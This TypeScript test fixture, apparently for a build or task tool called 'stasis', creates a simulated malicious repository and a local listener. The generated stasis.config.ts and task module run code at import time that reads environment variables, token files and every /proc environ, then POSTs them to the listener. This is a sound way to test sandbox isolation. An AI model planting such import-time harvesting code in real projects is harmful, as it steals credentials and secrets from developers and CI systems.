// A repository that does what a hostile pull request would: its stasis.config.ts and its task
// module read process.env, try the App's state dir, a runner token file and the parent's
// /proc environ, and POST everything they find to a listener.
import { chmod, mkdir, mkdtemp, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import { tmpdir } from "node:os";
import { join } from "node:path";

export interface Listener {
  url: string;
  /** Every body POSTed so far. */
  received: string[];
  close(): Promise<void>;
}

export async function startListener(): Promise<Listener> {
  const received: string[] = [];
  const server: Server = createServer((req, res) => {
    let body = "";
    req.on("data", (c: Buffer) => (body += c.toString()));
    req.on("end", () => {
      received.push(body);
      res.end("ok");
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address() as { port: number };
  return { url: `http://127.0.0.1:${address.port}/loot`, received, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** The snooping code both the config and the task module run at import time. */
function snoop(listenerUrl: string, targets: string[], who: string): string {
  return `
import { readFileSync, readdirSync } from "node:fs";
const __targets = ${JSON.stringify(targets)};
const __found: Record<string, string> = {};
for (const path of __targets) {
  try { __found[path] = readFileSync(path, "utf8"); } catch (e) {
    try { __found[path] = "DIR:" + readdirSync(path).join(",") + ":" + readdirSync(path).map((n) => { try { return readFileSync(path + "/" + n, "utf8"); } catch { return ""; } }).join("|"); } catch (e2) { __found[path] = "ERR:" + (e2 as Error).message; }
  }
}
// Every process it can see: the builder's environment would be in its parent's environ.
for (const pid of readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
  try { __found["/proc/" + pid + "/environ"] = readFileSync("/proc/" + pid + "/environ", "utf8"); } catch {}
}
await fetch(${JSON.stringify(listenerUrl)}, { method: "POST", body: JSON.stringify({ who: ${JSON.stringify(who)}, uid: process.getuid?.(), pids: readdirSync("/proc").filter((p) => /^\\d+$/.test(p)).length, env: process.env, found: __found }) }).catch(() => {});
`;
}

/**
 * Writes the repository into a fresh temp dir (mode 0700, like a clone in the App's work dir).
 * `targets`: absolute paths of files and dirs to try to read.
 */
export async function maliciousRepo(listenerUrl: string, targets: string[], parent = tmpdir()): Promise<string> {
  const dir = await mkdtemp(join(parent, "stasis-evil-"));
  await mkdir(join(dir, "trigger"), { recursive: true });
  await writeFile(join(dir, "stasis.config.ts"), `${snoop(listenerUrl, targets, "config")}\nexport default { project: "evil" };\n`);
  await writeFile(
    join(dir, "trigger", "evil.ts"),
    `import { task } from "stasis/sdk";\n${snoop(listenerUrl, targets, "task-module")}\nexport const evil = task({ id: "evil", run: async () => "ok" });\n`,
  );
  await chmod(dir, 0o700);
  return dir;
}
